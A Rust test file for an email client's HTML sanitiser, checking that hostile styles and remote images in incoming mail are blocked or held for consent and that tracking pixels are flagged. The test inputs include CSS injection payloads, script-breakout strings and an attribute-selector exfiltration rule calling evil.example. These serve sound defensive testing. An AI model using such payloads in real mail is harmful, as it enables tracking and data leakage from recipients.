//! Styles and images of hostile mails: nothing is fetched unasked, nothing leaves its place.
//!
//! Proves E16 for what RELIABILITY §1.3 calls remote-content bypasses.

use bandeja_mail::sanitise::Scheme;

use crate::hostile::{check, safe};

#[test]
fn styles_neither_fetch_nor_leave_the_mail() {
    for css in [
        "@import 'https://evil.example/x.css';",
        "@import url(https://evil.example/x.css) screen;",
        "@\\69mport 'https://evil.example';",
        "@font-face{font-family:x;src:url(https://evil.example/f)}",
        "@namespace svg url(https://evil.example);",
        "@charset 'utf-7';",
        "p{behavior:url(https://evil.example/x.htc)}",
        "p{-moz-binding:url(https://evil.example/x.xml#x)}",
        "p{width:expression(alert(1))}",
        "p{wid\\th:exp\\ression(alert(1))}",
        "p{list-style-image:url(https://evil.example)}",
        "p{cursor:url(https://evil.example),auto}",
        "p{content:url(https://evil.example)}",
        "p::before{content:url(https://evil.example)}",
        "p{border-image-source:url(https://evil.example)}",
        "p{mask:url(https://evil.example#x)}",
        "p{filter:url(https://evil.example#x)}",
        "p{fill:url(https://evil.example#x)}",
        "p{shape-outside:url(https://evil.example)}",
        "p{background:image-set(url(https://evil.example) 1x)}",
        "p{background:-webkit-image-set('https://evil.example' 1x)}",
        "p{background:cross-fade(url(https://evil.example),red)}",
        "p{--x:url(https://evil.example);background:var(--x)}",
        "p{background:var(--x,url(https://evil.example))}",
        "p{background:src('https://evil.example')}",
        "p{background:u\\72l(https://evil.example)x}",
        "p{background:attr(title)}",
        "p[title^='a']{background:url(https://evil.example/a)}",
        "@property --x{syntax:'<url>';inherits:false;initial-value:url(https://evil.example)}",
        "@supports(display:grid){@import 'https://evil.example';}",
        "</style><script>alert(1)</script><style>",
        "p{font-family:'</style><script>alert(1)</script>'}",
        "p{color:red;}</st\\yle>",
        "p{position:fixed!important;top:0;inset:0;z-index:9}",
        "p{position:absolute}p{position:sticky}",
        "p{transform:scale(100)}p{animation:x 1s}",
        "@keyframes x{from{background:url(https://evil.example)}}",
        ".b-quoted,.b-host,.b-frame{display:none}",
        "details,summary{display:none}",
        "p{height:100vh;min-height:100dvh}",
    ] {
        let forbidden = [
            "evil.example",
            "alert",
            "expression",
            "position",
            "import",
            "font-face",
            "behavior",
            "binding",
            "cursor",
            "content",
            "</style",
            "transform",
            "animation",
            "vh",
            "var(",
            ".b-quoted",
            ".b-host",
            ".b-frame",
            "details",
        ];
        check(&format!("<style>{css}</style><p>x</p>"), &forbidden);
        check(
            &format!("<style><!-- {css} --></style><p>x</p>"),
            &forbidden,
        );
        if !css.contains('"') {
            check(
                &format!(
                    "<p style=\"{}\">x</p>",
                    css.trim_start_matches("p{").replace('}', "")
                ),
                &forbidden,
            );
        }
    }
}

#[test]
fn remote_images_wait_for_consent_wherever_they_hide() {
    for html in [
        "<img src=https://e.example/x>",
        "<img src=//e.example/x>",
        "<img src='\nhttps://e.example/x'>",
        "<img srcset='https://e.example/x 2x, https://e.example/y 3x'>",
        "<input type=hidden><image src=https://e.example/x>",
        "<table background=https://e.example/x><tr><td>x</table>",
        "<table><tr><td background='https://e.example/x'>x</table>",
        "<body background=https://e.example/x>x",
        "<p style='background:url(https://e.example/x)'>x</p>",
        "<p style='background:url(\"https://e.example/x\"'>x</p>",
        "<p style=\"background-image:URL( 'https://e.example/x' ), none\">x</p>",
        "<p style='background:\\75rl(https://e.example/x)'>x</p>",
        "<style>p{background:url(https://e.example/x)}</style><p>x</p>",
        "<style media=screen>p{background:url(https://e.example/x)}</style><p>x</p>",
        "<style>@media screen{p{background:url(https://e.example/x)}}</style><p>x</p>",
        "<video poster=https://e.example/x></video>",
    ] {
        let safe = safe(html);
        assert_eq!(safe.remote.len(), 1, "{html}");
        assert_eq!(safe.remote[0].url, "https://e.example/x", "{html}");
        let blocked = format!("{}{}", safe.blocked.html(), safe.blocked.css());
        assert!(
            !blocked.contains("e.example") && !blocked.contains("remote/"),
            "{html}: {blocked}"
        );
        let consented = safe.consented.unwrap();
        let shown = format!("{}{}", consented.html(), consented.css());
        assert!(
            shown.contains("remote/0") && !shown.contains("e.example"),
            "{html}: {shown}"
        );
    }
}

#[test]
fn a_mail_cannot_name_the_address_an_image_is_shown_from() {
    check(
        "<img src=remote/0 alt=x><img src=inline/x alt=x><p style='background:url(remote/0)'>x",
        &["remote/", "inline/"],
    );
    let safe = safe("<img src=https://e.example/x><img src=remote/7 alt=x>");
    assert!(!safe.consented.unwrap().html().contains("remote/7"));
}

#[test]
fn trackers_are_told_and_never_shown() {
    for html in [
        "<img src=https://t.example/o width=1 height=1>",
        "<img src=https://t.example/o width=0 height=0>",
        "<img src=https://t.example/o style='width:1px;height:1px'>",
        "<img src=https://t.example/o style='display:none'>",
        "<img src=https://t.example/o style='DISPLAY : none !important; width:9px'>"
            .replace(" !important", "")
            .as_str(),
    ] {
        let safe = safe(html);
        assert!(
            safe.remote[0].tracker && safe.consented.is_none(),
            "{html}: {safe:?}"
        );
        assert!(!safe.blocked.html().contains("<img"), "{html}");
    }
    assert!(!safe("<img src=https://t.example/o width=1 height=20>").remote[0].tracker);
}

#[test]
fn names_of_a_mail_are_not_ours() {
    check(
        "<p id=b-frame class='b-quoted b-host b-mail'>x</p><img name=body id=currentScript alt=x><a name=body>x</a>",
        &[
            "\"b-quoted",
            " b-host",
            "name=",
            "id=\"currentscript",
            "id=\"b-frame",
        ],
    );
}

#[test]
fn paper_is_chosen_by_what_the_mail_does() {
    let check = |html: &str, expected: Scheme| assert_eq!(safe(html).scheme, expected, "{html}");
    check("<p><b>Hola</b></p>", Scheme::Plain);
    check("<p style='margin:0'>Hola</p>", Scheme::Plain);
    check("<p style='color:#333'>Hola</p>", Scheme::White);
    check("<table bgcolor=white><tr><td>x</table>", Scheme::White);
    check("<font color=red>x</font>", Scheme::White);
    check("<body bgcolor=#eee>x", Scheme::White);
    check("<style>p{background:#fff}</style><p>x", Scheme::White);
    check(
        "<meta name=color-scheme content='light dark'><p style='color:#333'>x",
        Scheme::Own,
    );
    check(
        "<style>@media(prefers-color-scheme:dark){p{color:#fff}}</style><p>x",
        Scheme::Own,
    );
    check(
        "<meta name=color-scheme content=light><p style='color:#333'>x",
        Scheme::White,
    );
}
